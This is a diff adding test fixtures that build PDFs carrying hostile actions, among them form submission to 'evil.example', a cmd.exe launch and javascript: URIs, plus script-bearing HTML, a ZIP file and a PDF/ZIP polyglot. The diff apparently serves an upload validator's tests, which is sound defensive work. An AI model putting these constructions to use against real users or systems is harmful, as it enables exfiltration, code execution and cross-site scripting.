@@ -90,5 +90,124 @@ def pdf_bytes(pages=1, *, javascript=False, attachment=False, launch=False, encr
     return out.getvalue()
 
 
+def _pdf_action(kind: str, **entries):
+    """An action dictionary ``/S /<kind>`` with ``entries`` (names as ``/X`` strings, text as plain strings)."""
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    for key, value in entries.items():
+        action[NameObject(f"/{key}")] = NameObject(value) if value.startswith("/") else TextStringObject(value)
+    return action
+
+
+#: Actions a stored PDF must not hold (kind, entries), each refused wherever it sits.
+HOSTILE_PDF_ACTIONS = {
+    "uri-javascript": ("/URI", {"URI": "javascript:app.alert(1)"}),
+    "uri-web": ("/URI", {"URI": "https://evil.example/collect"}),
+    "submit-form": ("/SubmitForm", {"F": "https://evil.example/collect"}),
+    "reset-form": ("/ResetForm", {}),
+    "import-data": ("/ImportData", {"F": "data.fdf"}),
+    "launch": ("/Launch", {"F": "cmd.exe"}),
+    "goto-remote": ("/GoToR", {"F": "other.pdf", "D": "chapter1"}),
+    "goto-embedded": ("/GoToE", {"D": "chapter1"}),
+    "rendition": ("/Rendition", {"OP": "/Play"}),
+    "sound": ("/Sound", {}),
+    "movie": ("/Movie", {"T": "trailer"}),
+    "named-print": ("/Named", {"N": "/Print"}),
+}
+#: Where an action can sit: the document's open action, additional actions of the catalogue, of a
+#: page and of an annotation, a link annotation's /A, a bookmark's /A, and an action's /Next.
+PDF_ACTION_PLACES = ("open", "catalog-aa", "page-aa", "annotation-aa", "link", "outline", "next")
+
+
+def pdf_with_action(kind: str = "/GoTo", where: str = "open", **entries) -> bytes:
+    """A one-page PDF with one action of ``kind`` at ``where`` (``PDF_ACTION_PLACES``).
+
+    ``/GoTo`` without entries goes to the first page (navigation within the document).
+    """
+    from pypdf import PdfWriter
+    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, NumberObject
+
+    writer = PdfWriter()
+    page = writer.add_blank_page(width=200, height=200)
+    if kind == "/GoTo" and not entries:
+        action = _pdf_action("/GoTo")
+        action[NameObject("/D")] = ArrayObject([page.indirect_reference, NameObject("/Fit")])
+    else:
+        action = _pdf_action(kind, **entries)
+    reference = writer._add_object(action)
+    rect = ArrayObject([FloatObject(10), FloatObject(10), FloatObject(90), FloatObject(30)])
+
+    def annotation(**extra):
+        annot = DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Annot"),
+                NameObject("/Subtype"): NameObject("/Link"),
+                NameObject("/Rect"): rect,
+            }
+        )
+        annot.update({NameObject(k): v for k, v in extra.items()})
+        page[NameObject("/Annots")] = ArrayObject([writer._add_object(annot)])
+
+    root = writer._root_object
+    if where == "open":
+        root[NameObject("/OpenAction")] = reference
+    elif where == "catalog-aa":
+        root[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): reference})
+    elif where == "page-aa":
+        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): reference})
+    elif where == "annotation-aa":
+        annotation(**{"/AA": DictionaryObject({NameObject("/E"): reference})})
+    elif where == "link":
+        annotation(**{"/A": reference})
+    elif where == "outline":
+        item = DictionaryObject({NameObject("/Title"): _pdf_text("Chapter"), NameObject("/A"): reference})
+        item_ref = writer._add_object(item)
+        outlines = DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Outlines"),
+                NameObject("/First"): item_ref,
+                NameObject("/Last"): item_ref,
+                NameObject("/Count"): NumberObject(1),
+            }
+        )
+        outlines_ref = writer._add_object(outlines)
+        item[NameObject("/Parent")] = outlines_ref
+        root[NameObject("/Outlines")] = outlines_ref
+    elif where == "next":
+        first = _pdf_action("/GoTo")
+        first[NameObject("/D")] = ArrayObject([page.indirect_reference, NameObject("/Fit")])
+        first[NameObject("/Next")] = reference
+        root[NameObject("/OpenAction")] = writer._add_object(first)
+    else:
+        raise ValueError(where)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def _pdf_text(text):
+    from pypdf.generic import TextStringObject
+
+    return TextStringObject(text)
+
+
+HTML_TRAILER = b"\n<html><body><script>alert(document.domain)</script></body></html>\n"
+
+
+def zip_bytes(name="payload.html", content=b"<script>alert(1)</script>") -> bytes:
+    import zipfile
+
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr(name, content)
+    return out.getvalue()
+
+
+def pdf_zip_polyglot(*, eof_after=True) -> bytes:
+    """A PDF with a ZIP archive appended (readable by both); ``eof_after`` adds a ``%%EOF`` after the archive."""
+    return pdf_bytes() + zip_bytes() + (b"\n%%EOF\n" if eof_after else b"")
+
+
 def upload(name: str, content: bytes, content_type="application/octet-stream") -> SimpleUploadedFile:
     return SimpleUploadedFile(name, content, content_type=content_type)
